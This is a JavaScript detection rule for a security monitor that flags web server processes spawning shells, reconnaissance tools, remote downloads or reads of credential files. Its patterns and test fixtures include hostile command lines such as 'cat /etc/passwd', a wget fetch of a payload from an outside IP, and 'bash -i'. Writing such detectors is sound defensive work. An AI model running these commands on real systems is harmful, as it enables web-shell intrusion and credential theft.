import { commandRule } from "../../command-rule.js";
import { fetchers, find, parentOf } from "../../shell/look.js";

const WEB =
  /\/(?:nginx|apache2|httpd|lighttpd|php-fpm[\d.]*|php-cgi[\d.]*|php[\d.]*|uhttpd|mini_httpd|boa|goahead|thttpd|caddy|tomcat\d*|w3wp|gunicorn|uwsgi)$/;

/** A web server or the program behind a page started a shell or a tool that intruders ask first: somebody runs commands through a page. */
export const webServerStartedShell = commandRule({
  id: "web-server-started-shell",
  alertType: "Picket_WebServerStartedShell",
  name: "Web server started a shell",
  severity: "High",
  about:
    "A web server or the program behind a page started a shell or a tool that intruders ask first: somebody runs commands through a page.",
  tactics: ["Execution", "Initial Access", "Persistence"],
  techniques: ["T1190", "T1505.003", "T1059.004"],
  falsePositives: [
    "Pages that call small tools on purpose, such as a router's own interface; give the page's tool an exception.",
  ],
  parents: [
    "nginx",
    "apache2",
    "httpd",
    "lighttpd",
    "php",
    "uhttpd",
    "boa",
    "goahead",
    "caddy",
    "tomcat",
    "w3wp",
    "gunicorn",
    "uwsgi",
  ],
  sees: (reading, event) => {
    const parent = parentOf(event);
    if (!WEB.test(parent)) return undefined;
    return (
      find(reading, /^(?:whoami|id|uname|ifconfig|netstat|ss|ps|nc|ncat|hostname|w|last|arp)$/) ??
      find(
        reading,
        fetchers,
        ({ text }) => /https?:\/\//.test(text) && !/https?:\/\/(?:127\.|localhost)/.test(text),
      ) ??
      find(reading, /^(?:cat|head|tail|ls|find)$/, ({ text }) =>
        /\/etc\/(?:passwd|shadow|hosts|crontab)|\/root\b|\/home\b|\.\.\//.test(text),
      ) ??
      find(reading, /^(?:bash|sh|dash)$/, ({ argv }) => argv.includes("-i"))
    );
  },
  did: "ran a command through a web server",
  because: "web servers do not ask such things by themselves",
  fires: [
    { line: "sh -c whoami", user: "www-data", parent: "/usr/sbin/php-fpm8.2" },
    { line: "sh -c cat /etc/passwd", user: "www-data", parent: "/usr/sbin/apache2" },
    { line: "/bin/sh -c wget http://203.0.113.9/x -O /tmp/x", user: "nobody", parent: "/usr/bin/boa" },
    { line: "bash -i", user: "www-data", parent: "/usr/sbin/nginx" },
  ],
  silent: [
    { line: "sh -c whoami", user: "op", parent: "/usr/bin/bash" },
    { line: "sh -c /usr/bin/convert a.png b.jpg", user: "www-data", parent: "/usr/sbin/php-fpm8.2" },
    { line: "/usr/sbin/apache2 -k start", parent: "/usr/sbin/apache2" },
    { line: "sh -c cat /var/www/version", user: "www-data", parent: "/usr/sbin/php-fpm8.2" },
    { line: "curl http://127.0.0.1:9000/ping", user: "www-data", parent: "/usr/sbin/php-fpm8.2" },
    { line: "id", user: "op", parent: "/usr/sbin/sshd" },
  ],
});
